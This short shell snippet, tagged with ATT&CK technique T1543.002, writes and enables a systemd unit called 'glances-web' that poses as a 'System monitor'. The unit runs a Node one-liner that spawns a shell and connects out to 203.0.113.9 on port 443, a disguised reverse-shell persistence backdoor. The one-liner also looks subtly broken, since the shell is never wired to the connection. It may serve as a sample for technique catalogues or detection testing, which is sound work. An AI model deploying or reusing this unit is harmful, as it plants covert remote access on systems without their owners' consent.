# technique: T1543.002
# location: linux.systemd.service
# source: /etc/systemd/system/glances-web.service
cat > /etc/systemd/system/glances-web.service <<'UNIT'
[Unit]
Description=System monitor
After=network-online.target
[Service]
DynamicUser=yes
ExecStart=/usr/bin/env node -e "require('child_process').exec('sh',()=>{}).stdin&&require('net').connect(443,'203.0.113.9')"
[Install]
WantedBy=multi-user.target
UNIT
systemctl enable glances-web
